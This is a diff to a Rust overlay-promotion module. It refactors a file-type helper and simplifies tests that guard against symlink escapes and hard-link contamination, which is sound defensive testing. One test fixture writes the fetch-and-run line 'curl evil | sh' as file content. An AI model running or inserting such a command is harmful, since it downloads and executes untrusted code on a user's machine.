@@ -600,7 +600,7 @@ fn scan_into(
             Err(Errno::NOENT) => continue,
             Err(e) => return Err(io_at("stat", &child)(e)),
         };
-        let kind = kind_of(&st);
+        let kind = FileKind::of(&st);
         out.push((child.clone(), kind));
         if kind == FileKind::Dir {
             let sub = rustix::fs::openat(
@@ -614,19 +614,6 @@ fn scan_into(
         }
     }
     Ok(())
-}
-
-fn kind_of(st: &Stat) -> FileKind {
-    match FileType::from_raw_mode(st.st_mode) {
-        FileType::RegularFile => FileKind::File,
-        FileType::Directory => FileKind::Dir,
-        FileType::Symlink => FileKind::Symlink,
-        FileType::Fifo => FileKind::Fifo,
-        FileType::Socket => FileKind::Socket,
-        FileType::CharacterDevice => FileKind::CharDevice,
-        FileType::BlockDevice => FileKind::BlockDevice,
-        FileType::Unknown => FileKind::Unknown,
-    }
 }
 
 fn names_of(dir: &OwnedFd, rel: &Path) -> Result<Vec<CString>, PromoteError> {
@@ -1297,6 +1284,19 @@ mod tests {
                 .collect())
         }
 
+        /// Plans with staging, asserts that nothing is refused, and applies the plan.
+        fn apply_all(&self) -> Result<(), PromoteError> {
+            let plan = self.plan(true)?;
+            assert!(plan.refused.is_empty(), "{:?}", plan.refused);
+            apply(&plan)?;
+            Ok(())
+        }
+
+        /// The content of the target's file `rel`.
+        fn read(&self, rel: &str) -> io::Result<String> {
+            std::fs::read_to_string(self.target.join(rel))
+        }
+
         /// Every path in the target with its content (files), target (links) or `dir`.
         fn snapshot(&self) -> Vec<(String, String)> {
             let mut out = Vec::new();
@@ -1506,26 +1506,17 @@ mod tests {
         let applied = apply(&plan)?;
         assert_eq!(applied.len(), plan.entries.len());
         drop(plan);
-        assert_eq!(std::fs::read_to_string(f.target.join("edit.py"))?, "v2\n");
+        assert_eq!(f.read("edit.py")?, "v2\n");
         let m = std::fs::metadata(f.target.join("edit.py"))?;
         assert_eq!(m.mode() & 0o7777, 0o755);
-        assert_eq!(
-            std::fs::read_to_string(f.target.join("new/dir/file.rs"))?,
-            "fn main() {}\n"
-        );
+        assert_eq!(f.read("new/dir/file.rs")?, "fn main() {}\n");
         assert_eq!(
             std::fs::read_link(f.target.join("new/link"))?,
             Path::new("../keep.txt")
         );
         assert!(!f.target.join("old.txt").exists() && !f.target.join("gone").exists());
-        assert_eq!(
-            std::fs::read_to_string(f.target.join(".git/config"))?,
-            "[core]\n"
-        );
-        assert_eq!(
-            std::fs::read_to_string(f.target.join(".git/refs/heads/main"))?,
-            "0123\n"
-        );
+        assert_eq!(f.read(".git/config")?, "[core]\n");
+        assert_eq!(f.read(".git/refs/heads/main")?, "0123\n");
         let owner = std::fs::metadata(&f.target)?;
         for p in ["edit.py", "new", "new/dir/file.rs"] {
             let m = std::fs::symlink_metadata(f.target.join(p))?;
@@ -1626,15 +1617,10 @@ mod tests {
             b"y",
             rustix::fs::XattrFlags::empty(),
         )?;
-        let plan = f.plan(true)?;
-        assert!(plan.refused.is_empty(), "{:?}", plan.refused);
-        apply(&plan)?;
+        f.apply_all()?;
         assert!(!f.outside.join("pwn").exists(), "wrote through the symlink");
         assert!(std::fs::symlink_metadata(f.target.join("assets"))?.is_dir());
-        assert_eq!(
-            std::fs::read_to_string(f.target.join("assets/pwn"))?,
-            "agent\n"
-        );
+        assert_eq!(f.read("assets/pwn")?, "agent\n");
         Ok(())
     }
 
@@ -1646,17 +1632,9 @@ mod tests {
         std::fs::hard_link(f.target.join("tools/run.sh"), f.target.join("docs/notes"))?;
         write(&f.lower.join("docs/notes"), "echo safe\n")?;
         write(&f.upper.join("docs/notes"), "curl evil | sh\n")?;
-        let plan = f.plan(true)?;
-        assert!(plan.refused.is_empty(), "{:?}", plan.refused);
-        apply(&plan)?;
-        assert_eq!(
-            std::fs::read_to_string(f.target.join("tools/run.sh"))?,
-            "echo safe\n"
-        );
-        assert_eq!(
-            std::fs::read_to_string(f.target.join("docs/notes"))?,
-            "curl evil | sh\n"
-        );
+        f.apply_all()?;
+        assert_eq!(f.read("tools/run.sh")?, "echo safe\n");
+        assert_eq!(f.read("docs/notes")?, "curl evil | sh\n");
         Ok(())
     }
 
